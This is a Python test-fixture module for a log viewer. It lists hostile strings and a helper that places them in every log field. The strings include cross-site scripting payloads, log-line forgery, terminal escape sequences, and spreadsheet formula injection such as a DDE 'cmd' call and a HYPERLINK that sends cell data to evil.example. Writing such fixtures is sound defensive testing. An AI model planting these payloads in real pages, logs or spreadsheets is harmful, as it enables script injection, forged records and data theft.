"""Texts that act where they are shown: in a browser, a terminal, a spreadsheet, another log."""

from __future__ import annotations

from logconsole.entry import Entry

MARK = "owned"
TEXTS = {
    "script": f"<script>window.{MARK}=1</script>",
    "closing script": f"</script><script>window.{MARK}=1</script>",
    "image": f"<img src=x onerror=window.{MARK}=1>",
    "attribute": f"\"'><svg onload=window.{MARK}=1>",
    "handler": f'" onmouseover="window.{MARK}=1" autofocus onfocus="window.{MARK}=1" x="',
    "address": f"javascript:window.{MARK}=1",
    "comment": "<!-- <style>*{display:none}</style> -->]]><![CDATA[",
    "frame": f"<iframe srcdoc='<script>parent.{MARK}=1</script>'></iframe>",
    "entities": "&lt;b&gt; &#x202e; &amp;",
    "template": "{{ 7*7 }} {% debug %} ${7*7} #{7*7} %s %(a)s %n {0}",
    "prototype": "__proto__",
    "forged line": "x\n2026-11-23T07:35:40.123Z ERROR   root: forged",
    "forged with return": "x\r\n2026-11-23T07:35:40.123Z ERROR   root: forged\r",
    "forged with separators": "x\u20282026-11-23 forged\u2029\x85\x0b\x0cforged",
    "forged JSON": 'x"}\n{"ts":"2026-11-23T07:35:40.123456Z","level":"ERROR","msg":"forged"}',
    "clear the screen": "\x1b[2J\x1b[H\x1b[31mred",
    "title": "\x1b]0;forged title\x07\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "answer": "\x1b[c\x1b[6n\x1bP+q544e\x1b\\",
    "eight bits": "\x9b31m\x9d0;title\x9c\x90x\x9c",
    "backspace": "good\b\b\b\bevil\r",
    "NUL": "a\0b",
    "right to left": "access \u202egranted\u202c \u2067denied\u2069 \u200f\u061c",
    "isolates": "/*\u2066 } \u2069\u2066 if admin */",
    "formula": '=HYPERLINK("http://evil.example?"&A1,"click")',
    "command": "-1+cmd|' /C calc'!A0",
    "sum": "@SUM(1+1)*cmd|' /C calc'!A0",
    "plus": "+1+1",
    "hidden formula": "\ufeff\u200b\t=1+1",
    "full width": "＝1+1",
    "cells": '","=1+1","\n=1+1',
    "very long word": "x" * 9_000,
    "very long line": "word " * 1_800,
    "very many lines": "line\n" * 2_000,
    "stacked marks": "z" + "\u0300" * 500,
    "wide": "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 200,
    "invisible": "\u200b\u2060\u00ad\ufeff",
    "empty": "",
    "blank": " \t\n ",
}


def entry(name: str, number: int = 0) -> Entry:
    """An entry that has the text wherever a writer can put one."""
    text = TEXTS[name]
    return Entry(
        ts="2026-11-23T07:35:40.123456Z" if number % 2 else text,
        level=text if number % 3 == 0 else "ERROR",
        msg=f"hostile {number}: {text}",
        logger=text,
        service=text,
        host=text,
        pid=number,
        thread=text,
        caller=f"{text}:1",
        request_id=text,
        user=text,
        exc=f'Traceback (most recent call last):\n  File "{text}", line 1, in {text}\nValueError: {text}',
        stack=text,
        extra={text: text, "path": text, "status": text, "nested": {text: [text]}, "__proto__": {"polluted": text}},
    )
